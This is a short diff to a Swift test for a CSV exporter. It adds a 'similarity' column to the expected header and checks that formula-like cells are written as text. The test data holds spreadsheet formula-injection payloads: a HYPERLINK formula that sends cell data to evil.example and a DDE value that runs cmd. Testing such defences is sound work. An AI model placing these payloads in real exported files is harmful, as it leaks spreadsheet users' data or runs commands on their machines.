@@ -25,7 +25,7 @@ import Testing
 
     @Test func cellsThatAreFormulasAreWrittenAsText() throws {
         let rows = try Self.run([])
-        #expect(rows[0] == "cluster,id,path,title,chars,representative")
+        #expect(rows[0] == "cluster,id,path,title,chars,representative,similarity")
         let body = rows.dropFirst().joined(separator: "\n")
         #expect(body.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","#))
         #expect(body.contains(",'+cmd|' /C calc'!A0,"))
